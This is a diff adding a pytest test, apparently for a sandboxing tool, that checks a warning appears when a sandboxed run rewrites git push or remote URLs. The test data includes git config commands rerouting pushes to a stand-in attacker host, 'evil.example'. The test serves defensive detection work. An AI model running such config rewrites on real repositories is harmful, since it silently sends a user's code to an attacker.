@@ -290,6 +290,26 @@ def test_a_setting_by_which_a_password_goes_elsewhere_is_told(runner: NonoRun, s
     assert "this run" not in inside(runner, "git config http.postBuffer 9999")
 
 
+REROUTED = {
+    "git config remote.origin.pushurl {0}": "this run set or removed remote.origin.pushurl",
+    "git config remote.origin.url {0}": "this run set or removed remote.origin.url",
+    "git config url.{0}.insteadOf {1}": "this run set or removed",
+}
+
+
+@pytest.mark.parametrize(("act", "sentence"), REROUTED.items(), ids=REROUTED)
+def test_a_push_that_a_run_sends_elsewhere_is_told(runner: NonoRun, act: str, sentence: str) -> None:
+    """The person pushes what the command could not send away itself."""
+    evil, good = "ssh://git@evil.example/a.git", "ssh://git@host.example/a.git"
+    outside(runner, f"git remote add origin {good} && git commit -qm one")
+    said = inside(runner, act.format(evil, good), "--block-net", "--allow=.")
+    assert sentence in said
+    assert "git outside may push to another place than before" in said
+    outside(runner, "git remote get-url --push origin > to")
+    assert (runner.project / "to").read_text() == f"{evil}\n"
+    assert "this run" not in inside(runner, f"git remote add other {evil}", "--block-net", "--allow=.")
+
+
 def test_a_working_tree_elsewhere_is_told(runner: NonoRun) -> None:
     outside(runner, "git commit -qm one && mkdir ../victim")
     said = inside(runner, "git config core.worktree ../../victim")
